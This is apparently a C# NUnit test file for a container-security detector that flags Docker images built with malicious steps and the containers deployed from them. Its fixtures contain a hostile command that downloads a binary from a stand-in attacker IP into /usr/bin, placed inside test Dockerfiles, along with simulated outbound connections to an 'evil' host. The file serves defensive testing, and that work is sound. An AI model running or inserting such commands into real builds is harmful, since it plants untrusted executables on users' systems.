using ImageSentinel.Detection;
using ImageSentinel.Detection.Builds;
using ImageSentinel.Detection.Detectors;
using ImageSentinel.Detection.Events;
using ImageSentinel.Detection.Images;
using ImageSentinel.Detection.Indicators;
using ImageSentinel.Detection.Model;
using NUnit.Framework;

namespace ImageSentinel.Tests.Detection;

[TestFixture]
public sealed class DeployTests
{
    private const string Download = "curl -o /usr/bin/x http://203.0.113.66/x";
    private static readonly string BadLayer = Scene.StepId(70);

    private static Scene BadBuild(Scene? scene = null, string dockerfile = "FROM alpine:3\nRUN " + Download + "\n") => (scene ?? new Scene())
        .Client(200, "docker", "build", "-t", "example/bad:1", "/ctx")
        .SnapshotDockerfile(1, dockerfile)
        .BuildKitStep(1, 300, Download, BadLayer)
        .Run(302, 303, "curl", "-o", "/usr/bin/x", "http://203.0.113.66/x").Connect(303)
        .Writes(303, BadLayer, "usr/bin/x").Looked(BadLayer, "usr/bin/x", ImageSentinel.Detection.Files.FileKind.Elf)
        .Exit(303).After(200).EndBuildKitStep(300);

    private static Scene BadImage(Scene? scene = null) => BadBuild(scene)
        .Image(1, ["base", BadLayer], "example/bad:1", "ADD base", $"RUN /bin/sh -c {Download} # buildkit")
        .Exit(200).After(3000);

    private static ContainerFact Container(
        int number, int image, string name = "example/bad:1", bool privileged = false, string[]? binds = null, string restart = "no", string pid = "")
        => new(0, Scene.Hex(number), name, "sha256:" + Scene.Hex(image), ["/usr/bin/x"], "web", false, "", "json-file", "default", privileged, pid, restart, binds ?? [], "", false, false, 0);

    private static ImageFact Image(int image, string[] layers, string parent = "", string container = "", string[]? contents = null, string comment = "")
        => new(0, "sha256:" + Scene.Hex(image), container, parent, layers, [.. layers.Select(l => new ImageHistory("x " + l, comment, false))], contents);

    [Test]
    public void A_container_from_a_bad_image_is_told_at_once_with_the_builds_story()
    {
        Scene scene = BadImage().Client(400, "docker", "run", "example/bad:1").Tell(Container(900, 1));

        Finding finding = scene.Find("tainted-image-deployed")!;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(finding.Severity, Is.EqualTo(Severity.High));
            Assert.That(finding.Build, Is.SameAs(scene.OnlyBuild));
            Assert.That(finding.ContainerId, Is.EqualTo(Scene.Hex(900)));
            Assert.That(finding.ImageId, Is.EqualTo("sha256:" + Scene.Hex(1)));
            Assert.That(finding.Message, Does.Contain("203.0.113.66:80/tcp").And.Contains("The same client asked for the build and the container."));
            Assert.That(finding.Evidence.Select(static e => e.Summary), Has.Some.Contains("/usr/bin/x").And.Some.Contains("container web (000000000000)"));
            Assert.That(scene.OnlyBuild.Deployments.Single().Client!.Process!.Pid, Is.EqualTo(400));
        }
    }

    [Test]
    public void Privileges_and_the_hosts_root_make_it_critical()
    {
        Scene scene = BadImage().Tell(Container(900, 1, privileged: true, binds: ["/:/host"], restart: "always"));

        Assert.That(scene.Find("tainted-image-deployed")!.Severity, Is.EqualTo(Severity.Critical));
        Assert.That(
            scene.OnlyBuild.Deployments.Single().Risks,
            Is.EqualTo(new[] { "privileged", "mounts the host's root", "restarts by itself" }));
        Assert.That(scene.After(300).OnlyBuild.Verdict, Is.EqualTo(Verdict.Malicious));
    }

    [Test]
    public void A_container_from_a_clean_image_is_no_news()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/good:1", "/ctx").SnapshotDockerfile(1, "FROM alpine:3\nRUN echo good\n")
            .BuildKitStep(1, 300, "echo good", BadLayer).EndBuildKitStep(300)
            .Image(1, ["base", BadLayer], "example/good:1", "ADD base", "RUN /bin/sh -c echo good # buildkit").Exit(200).After(3000)
            .Tell(Container(900, 1, privileged: true)).After(5000);

        Assert.That(scene.Findings, Is.Empty);
    }

    [Test]
    public void A_build_that_was_not_seen_whole_counts_too_and_weighs_less()
    {
        Scene scene = new Scene()
            .Client(200, "docker", "build", "-t", "example/app:1", "/ctx").SnapshotDockerfile(1, "FROM alpine:3\nRUN echo good\n")
            .BuildKitStep(1, 300, "echo good", BadLayer).Lost(3).EndBuildKitStep(300)
            .Image(1, ["base", BadLayer], "example/app:1", "ADD base", "RUN /bin/sh -c echo good # buildkit").Exit(200).After(3000)
            .Tell(Container(900, 1));

        Assert.That(scene.OnlyBuild.Verdict, Is.EqualTo(Verdict.Unknown));
        Assert.That(scene.Find("tainted-image-deployed")!.Severity, Is.EqualTo(Severity.Medium));

        scene.Tell(Container(901, 1, privileged: true));
        Assert.That(scene.Find("tainted-image-deployed")!.Severity, Is.EqualTo(Severity.High));
    }

    [Test]
    public void A_listed_image_that_nobody_built_here_is_told_when_a_container_is_made_from_it()
    {
        var scene = new Scene();
        var feed = new IndicatorSetBuilder();
        feed.From("feed.txt");
        Assert.That(feed.TryAdd(Scene.Hex(5), out string problem), Is.True, problem);
        scene.Core.ChangeIndicators(feed.Build());

        scene.Tell(Container(900, 5, "example/pulled:1"));

        Finding finding = scene.Find("indicator-match")!;
        Assert.That((finding.Severity, finding.ContainerId), Is.EqualTo((Severity.Critical, Scene.Hex(900))));
        Assert.That(finding.Message, Does.Contain("feed.txt"));
    }

    [Test]
    public void What_is_read_of_a_container_while_it_is_removed_takes_nothing_back()
    {
        Scene scene = BadImage().Tell(Container(900, 1, privileged: true))
            .Tell(Container(900, 1) with { NetworkMode = "", LogDriver = "", Finished = true, ExitCode = 0 });

        Assert.That(scene.OnlyBuild.Deployments.Single().Risks, Is.EqualTo(new[] { "privileged" }));
    }

    [Test]
    public void A_step_of_a_classic_build_on_a_bad_image_is_no_deployment()
    {
        ContainerFact step = Container(950, 1, "sha256:" + Scene.Hex(1)) with { Command = ["/bin/sh", "-c", "echo top"], LogDriver = "" };
        Scene scene = BadImage().File("tmp/docker-builder7", FileChange.Created | FileChange.Directory).Tell(step)
            .File("tmp/docker-builder7", FileChange.Deleted | FileChange.Directory).After(3000)
            .Tell(step with { Running = true }).After(2000);

        Assert.That(scene.Find("tainted-image-deployed"), Is.Null);
    }

    [Test]
    public void Two_containers_of_one_image_are_one_finding()
    {
        Scene scene = BadImage().Tell(Container(900, 1)).Tell(Container(901, 1)).After(1000);

        Assert.That(scene.Findings.Count(static f => f.Detector.Id == "tainted-image-deployed"), Is.EqualTo(1));
        Assert.That(scene.OnlyBuild.Deployments, Has.Count.EqualTo(2));
    }

    [Test]
    public void A_container_that_was_there_before_its_build_was_judged_is_told_when_it_is()
    {
        Scene scene = BadBuild(new Scene(mode: null))
            .Tell(Image(1, ["base", BadLayer]))
            .Tell(Container(900, 1));
        scene.Image(1, ["base", BadLayer], "example/bad:1", "ADD base", $"RUN /bin/sh -c {Download} # buildkit").Exit(200).After(4000);

        Assert.That(scene.Find("tainted-image-deployed"), Is.Not.Null);
    }

    [Test]
    public void Egress_of_the_container_joins_the_story_and_teaches_nobody()
    {
        Scene scene = BadImage().Tell(Container(900, 1))
            .Run(Scene.Daemon, 500, "containerd-shim-runc-v2", "-namespace", "moby", "-id", Scene.Hex(900), "-address", "x")
            .Fork(500, 501).Exec(501, 500, 0, "/usr/bin/x").Connect(501);

        Finding finding = scene.Find("tainted-image-deployed")!;
        using (Assert.EnterMultipleScope())
        {
            Assert.That(finding.Severity, Is.EqualTo(Severity.Critical));
            Assert.That(scene.OnlyBuild.Deployments.Single().Programs, Is.EqualTo(new[] { "/usr/bin/x" }));
            Assert.That(scene.OnlyBuild.Deployments.Single().Egress.Single().Destination, Is.EqualTo(Scene.To(Scene.Evil)));
            Assert.That(scene.Baseline.Judge(Scene.To(Scene.Evil), scene.Now.Time).Novelty, Is.EqualTo(Novelty.NeverSeen));
        }
    }

    [Test]
    public void Cached_rebuild_under_another_name_inherits()
    {
        Scene scene = BadImage().Tell(Image(2, ["base", BadLayer, "top"])).Tell(Container(900, 2, "example/cached:1"));

        Assert.That(scene.Find("tainted-image-deployed"), Is.Not.Null);
    }

    [Test]
    public void Image_loaded_again_with_other_directories_inherits_by_content()
    {
        Scene scene = BadImage(new Scene().Tell(Image(1, ["base", BadLayer], contents: ["sha256:b", "sha256:evil"])));
        scene.Tell(Image(1, ["base", BadLayer], contents: ["sha256:b", "sha256:evil"])).After(500)
            .Tell(Image(3, ["other", "dirs"], contents: ["sha256:b", "sha256:evil"])).Tell(Container(900, 3));

        Assert.That(scene.Find("tainted-image-deployed"), Is.Not.Null);
    }

    [Test]
    public void Commit_squash_and_classic_parents_inherit_though_the_image_between_is_gone()
    {
        Scene scene = BadImage().Tell(Container(900, 1)).Tell(Image(4, ["l"], parent: "sha256:" + Scene.Hex(1), container: Scene.Hex(900)))
            .File("image/overlay2/imagedb/content/sha256/" + Scene.Hex(1), FileChange.Deleted)
            .Tell(Image(5, ["m"], parent: "sha256:" + Scene.Hex(4)))
            .Tell(Image(6, ["n"], comment: $"merge sha256:{Scene.Hex(5)} to sha256:{Scene.Hex(77)}"))
            .Tell(Container(901, 6, "example/late:1"));

        Assert.That(scene.Findings.Count(f => f.Detector.Id == "tainted-image-deployed" && f.ImageId == "sha256:" + Scene.Hex(6)), Is.EqualTo(1));
    }

    [Test]
    public void A_dropped_stage_taints_the_image_and_what_was_copied_out_of_it_but_not_the_shared_base()
    {
        const string Text = "FROM debian AS fetch\nRUN " + Download + "\nFROM alpine:3\nCOPY --from=fetch /usr/bin/x /x\n";
        Scene scene = BadBuild(dockerfile: Text)
            .Image(1, ["base", "copied"], "example/bad:1", "ADD base", "COPY /usr/bin/x /x # buildkit").Exit(200).After(3000)
            .Tell(Container(900, 1)).Tell(Image(2, ["base", "copied", "more"])).Tell(Container(901, 2)).Tell(Image(3, ["base", "fine"])).Tell(Container(902, 3))
            .After(2000);

        Assert.That(
            scene.Findings.Where(static f => f.Detector.Id == "tainted-image-deployed").Select(static f => f.ImageId),
            Is.EquivalentTo(new[] { "sha256:" + Scene.Hex(1), "sha256:" + Scene.Hex(2) }));
    }

    [Test]
    public void The_graph_outlives_the_process_that_made_it()
    {
        var store = new ListStore();
        var graph = new ImageGraph { Store = store };
        BadImage(new Scene(images: graph));
        var again = new ImageGraph();
        store.Stories.ForEach(again.Restore);
        store.Links.ForEach(l => again.Restore(l.Kind, l.Key, l.Build, null));

        Scene scene = new Scene(images: again).Tell(Container(900, 1));

        Finding finding = scene.Find("tainted-image-deployed")!;
        Assert.That(finding.Build, Is.Null);
        Assert.That(finding.BuildId, Is.EqualTo(store.Stories[0].BuildId));
        Assert.That(finding.Message, Does.Contain("203.0.113.66:80/tcp"));
    }

    [Test]
    public void The_graph_is_bounded_and_forgets_what_is_gone()
    {
        var graph = new ImageGraph();
        DateTimeOffset start = DateTimeOffset.UnixEpoch;
        for (int i = 0; i < ImageGraph.MaximumStories + 10; i++)
        {
            graph.Restore(Story(i, start.AddMinutes(i)));
        }

        var small = new ImageGraph();
        small.Restore(Story(1, start));
        small.Restore(ImageLinkKind.Image, "sha256:a", "b1", start);
        small.Expire(start.AddDays(31));

        Assert.That(small.Stories, Is.Empty);
        Assert.That(small.StoriesOf("sha256:a"), Is.Empty);
    }

    private static BuildStory Story(int i, DateTimeOffset time)
        => new($"b{i}", Verdict.Suspicious, Severity.High, time, "", [], "", null, "", "", [], [], []);

    private sealed class ListStore : IImageStore
    {
        public List<BuildStory> Stories { get; } = [];

        public List<(ImageLinkKind Kind, string Key, string Build)> Links { get; } = [];

        public void Keep(BuildStory story)
        {
            Stories.RemoveAll(s => s.BuildId == story.BuildId);
            Stories.Add(story);
        }

        public void Keep(ImageLinkKind kind, string key, string buildId) => Links.Add((kind, key, buildId));

        public void Gone(string imageId, DateTimeOffset? at)
        {
        }

        public void Forget(string imageId)
        {
        }

        public void ForgetStory(string buildId)
        {
        }
    }
}
